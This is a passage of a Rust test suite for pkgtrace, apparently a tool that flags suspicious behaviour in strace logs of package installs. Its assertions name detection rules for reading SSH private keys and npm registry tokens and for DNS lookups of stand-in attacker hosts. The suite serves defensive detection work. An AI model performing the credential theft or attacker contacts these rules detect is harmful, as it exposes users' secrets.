    let (r, _) = analyze_json(&[], &[&format!("start={log}")]);
    let phases = r["phases"].as_array().unwrap();
    assert_eq!(phases.len(), 1);
    assert_eq!(phases[0]["name"], "start");
    // severity_by_phase raises dns-lookup only in install.
    assert_eq!(active(&r, "dns-lookup", "cares.attacker.example")[0]["severity"], "low");
    let (r, _) = analyze_json(&[], &[&log]);
    assert_eq!(r["phases"][0]["name"], "install");
    assert_eq!(active(&r, "dns-lookup", "cares.attacker.example")[0]["severity"], "medium");

    // Two phases, in the order given; --phase names the unnamed ones.
    let creds = corpus("behaviour/creds.log");
    let (r, _) = analyze_json(&["--phase", "build"], &[&creds, &format!("start={log}")]);
    let names: Vec<&str> = r["phases"].as_array().unwrap().iter().map(|p| p["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["build", "start"]);
    assert!(r["phases"][0]["findings"].as_array().unwrap().iter().any(|f| f["rule"] == "read-ssh-private-key"));
    assert!(!r["phases"][1]["findings"].as_array().unwrap().iter().any(|f| f["rule"] == "read-ssh-private-key"));
    let lines = |p: &str| std::fs::read_to_string(p).unwrap().lines().count() as u64;
    assert_eq!(r["stats"]["lines"].as_u64().unwrap(), lines(&creds) + lines(&log), "stats sum over phases");
}

// ---------------------------------------------------------------- round trip

fn round_trip(log: &str) {
    let dir = tempfile::tempdir().unwrap();
    let o = run(&["parse", log]);
    assert_eq!(code(&o), 0, "parse {log}: {}", stderr(&o));
    for (i, l) in stdout(&o).lines().enumerate() {
        serde_json::from_str::<Value>(l).unwrap_or_else(|e| panic!("parse output line {}: {e}: {l}", i + 1));
    }
    let events = dir.path().join("events.jsonl");
    std::fs::write(&events, &o.stdout).unwrap();
    let (direct, c1) = analyze_json(&[], &[log]);
    let (replayed, c2) = analyze_json(&[], &[events.to_str().unwrap()]);
    assert_eq!(c1, c2);
    assert!(!findings(&direct).is_empty() || !behaviour(&direct, "files").is_empty(), "{log} has content");
    assert_eq!(direct, replayed, "{log}: analyzing the event stream differs from analyzing the log");
}

#[test]
fn round_trip_npm() {
    round_trip(&corpus("npm/install-local-tgz.log.zst"));
}

#[test]
fn round_trip_ff_directory() {
    let dir = corpus("formats/ff/");
    round_trip(&dir);
    let (r, _) = analyze_json(&[], &[&dir]);
    assert_active(&r, "read-registry-token", "/home/pkgtrace/.npmrc");
    let echo = behaviour(&r, "commands")
        .into_iter()
        .find(|c| c["exe"] == "/bin/echo")
        .expect("the child's exec, from its own file");
    assert_eq!(echo["argv"], serde_json::json!(["echo", "child"]));
    assert!(echo["chain"].as_str().unwrap().ends_with(" → echo"), "{echo}");
}

#[test]
fn round_trip_net_connect_and_badpath() {
    round_trip(&corpus("behaviour/net-connect.log"));
    round_trip(&corpus("formats/badpath-stderr.log"));
}

// ---------------------------------------------------------------- compression

fn strip_at(mut v: Value) -> Value {
    for p in v["phases"].as_array_mut().unwrap() {
        for f in p["findings"].as_array_mut().unwrap() {
            let at = f["evidence"]["at"].as_str().unwrap().to_string();
            let line = at.rsplit_once(':').unwrap().1.to_string();
            f["evidence"]["at"] = Value::from(line);
        }
    }
    v
}

#[test]
fn compressed_logs_give_the_same_report() {
    let plain = analyze_json(&[], &[&corpus("formats/recommended.log")]);
    let gz = analyze_json(&[], &[&corpus("formats/recommended.log.gz")]);
    let zst = analyze_json(&[], &[&corpus("formats/recommended.log.zst")]);
    assert_active(&plain.0, "read-registry-token", "/home/pkgtrace/.npmrc");
    assert_active(&plain.0, "dns-lookup", "x7f3a9.attacker.example");
    assert!(gz.0["phases"][0]["findings"][0]["evidence"]["at"].as_str().unwrap().contains("recommended.log.gz:"));
    assert_eq!(plain.1, gz.1);
    assert_eq!(plain.1, zst.1);
    let p = strip_at(plain.0);
    assert_eq!(p, strip_at(gz.0), "gz");
    assert_eq!(p, strip_at(zst.0), "zst");
}

#[test]
fn demo_logs_agree_across_strace_options() {
    // A few format variants must give the registry-token finding.
    for log in ["formats/t.log", "formats/yy.log", "formats/X-verbose.log", "formats/write-all.log", "formats/k.log"] {
        let (r, _) = analyze_json(&[], &[&corpus(log)]);
        assert_active(&r, "read-registry-token", "/home/pkgtrace/.npmrc");
        assert_eq!(r["stats"]["unparsed"], 0, "{log}");
    }
}

#[test]
fn directory_skips_non_log_files() {
    let o = run(&["analyze", "--format", "json", &corpus("npm/")]);
    let r: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(r["stats"]["unparsed"], 0, "stderr: {}", stderr(&o));
}

// ---------------------------------------------------------------- rules

#[test]
fn rules_list_one_line_per_rule() {
    let rules_dir = root().join("rules");
    let o = run(&["rules", "list", "--rules", rules_dir.to_str().unwrap()]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let mut files: Vec<String> = Vec::new();
    for cat in std::fs::read_dir(&rules_dir).unwrap() {
        let cat = cat.unwrap().path();
        if cat.is_dir() {
            for f in std::fs::read_dir(cat).unwrap() {
                let f = f.unwrap().path();
                if f.extension().is_some_and(|e| e == "toml") {
                    files.push(f.file_stem().unwrap().to_str().unwrap().to_string());
                }
            }
        }
    }
    files.sort();
    let out = stdout(&o);
    let mut ids: Vec<String> = Vec::new();
    for l in out.lines() {
        let mut parts = l.split_whitespace();
        let id = parts.next().unwrap();
        let sev = parts.next().unwrap_or("");
        assert!(["info", "low", "medium", "high", "critical"].contains(&sev), "severity column: {l}");
        assert!(parts.next().is_some(), "summary column: {l}");
        ids.push(id.to_string());
    }
    ids.sort();
    assert_eq!(ids, files, "one line per rule file");

    // The built-in pack.
    let o = run(&["rules", "list"]);
    assert_eq!(code(&o), 0);
    let out = stdout(&o);
    let line = out.lines().find(|l| l.starts_with("read-ssh-private-key ")).expect("read-ssh-private-key listed");
    assert!(line.contains(" critical ") && line.contains("SSH private key"), "{line}");
    let ids: std::collections::BTreeSet<&str> = out.lines().map(|l| l.split_whitespace().next().unwrap()).collect();
    assert_eq!(ids.len(), out.lines().count(), "ids are unique");
}

#[test]
fn rules_test_passes_for_the_pack() {
    let o = run(&["rules", "test"]);
    assert_eq!(code(&o), 0, "{}", stdout(&o));
    let out = stdout(&o);
    assert!(out.trim_end().ends_with("0 failures"), "{out}");
    assert!(!out.contains("FAIL"), "{out}");
}

#[test]
fn rules_test_reports_a_wrong_expectation() {
    let dir = tempfile::tempdir().unwrap();
    copy_dir(&root().join("rules"), dir.path());
    let path = dir.path().join("credentials/read-ssh-private-key.toml");
    let text = std::fs::read_to_string(&path).unwrap();
    // Flip the expectation of the known_hosts test case to "match".
    let marker = "path = \"~/.ssh/known_hosts\"";
    let at = text.find(marker).expect("known_hosts test case");
    let rest = &text[at..];
    let exp = rest.find("expect = \"no_match\"").unwrap() + at;
    let broken = format!("{}expect = \"match\"{}", &text[..exp], &text[exp + "expect = \"no_match\"".len()..]);
    std::fs::write(&path, broken).unwrap();

    let o = run(&["rules", "test", "--rules", dir.path().to_str().unwrap()]);
    assert_eq!(code(&o), 1, "{}", stdout(&o));
    let out = stdout(&o);
    let fails: Vec<&str> = out.lines().filter(|l| l.starts_with("FAIL")).collect();
    assert_eq!(fails.len(), 1, "{out}");
    assert!(fails[0].contains("read-ssh-private-key"), "{out}");
    assert!(out.contains("1 failures"), "{out}");
    // The same directory analyzes fine (the tests are not the rules).
    let o = run(&["analyze", "--rules", dir.path().to_str().unwrap(), &corpus("formats/signals.log")]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
}

// ---------------------------------------------------------------- broken pipe

/// A log whose report is several MB: many distinct files outside the project.
fn big_log(dir: &Path) -> PathBuf {
    let mut s = String::with_capacity(4 << 20);
    s.push_str("100 execve(\"/usr/bin/node\", [\"node\", \"x.js\"], 0x7ffc0000 /* 5 vars */) = 0\n");
    for i in 0..12_000 {
        s.push_str(&format!(
            "100 openat(AT_FDCWD, \"/opt/data/file-{i:06}.bin\", O_RDONLY) = -1 ENOENT (No such file or directory)\n"
        ));
    }
    let p = dir.join("big.log");
    std::fs::write(&p, s).unwrap();
    p
}

fn closed_pipe(args: &[&str]) -> (i32, String) {
    let mut child = Command::new(BIN)
        .args(args)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .env_remove("PKGTRACE_LOG")
        .spawn()
        .unwrap();
    let mut out = child.stdout.take().unwrap();
    let mut buf = [0u8; 10];
    out.read_exact(&mut buf).unwrap();
    drop(out);
    let mut err = String::new();
    child.stderr.take().unwrap().read_to_string(&mut err).unwrap();
    let status = child.wait().unwrap();
    (status.code().unwrap_or_else(|| panic!("killed by a signal: {status:?}")), err)
}

#[test]
fn broken_pipe_text_and_parse() {
    let dir = tempfile::tempdir().unwrap();
    let log = big_log(dir.path());
    let log = log.to_str().unwrap();
    // Sanity: the full report is far bigger than a pipe buffer.
    let full = run(&["analyze", "--format", "json", log]);
    assert!(full.stdout.len() > 1 << 20, "report of {} bytes", full.stdout.len());
    for args in [&["analyze", log][..], &["parse", log]] {
        let (c, err) = closed_pipe(args);
        assert!(c == 0 || c == 1, "{args:?}: exit {c}, stderr {err}");
        assert!(!err.contains("panicked"), "{args:?}: {err}");
    }
}

#[test]
fn broken_pipe_json() {
    let dir = tempfile::tempdir().unwrap();
    let log = big_log(dir.path());
    let (c, err) = closed_pipe(&["analyze", "--format", "json", log.to_str().unwrap()]);
    assert!(c == 0 || c == 1, "exit {c}, stderr {err}");
    assert!(!err.contains("panicked"), "{err}");
    assert!(err.trim().is_empty(), "no error message for a closed stdout: {err}");
}

/// The README's rule table is `rules list --format markdown`
/// (regenerate with `make readme-rules`).
#[test]
fn readme_rule_table_matches_the_pack() {
    let readme = std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("../README.md")).unwrap();
    let begin = readme.find("<!-- rules:begin -->\n").expect("begin marker") + "<!-- rules:begin -->\n".len();
    let end = readme.find("<!-- rules:end -->").expect("end marker");
    let out =
        Command::new(env!("CARGO_BIN_EXE_pkgtrace")).args(["rules", "list", "--format", "markdown"]).output().unwrap();
    assert!(out.status.success());
    assert_eq!(&readme[begin..end], String::from_utf8(out.stdout).unwrap(), "run `make readme-rules`");
}
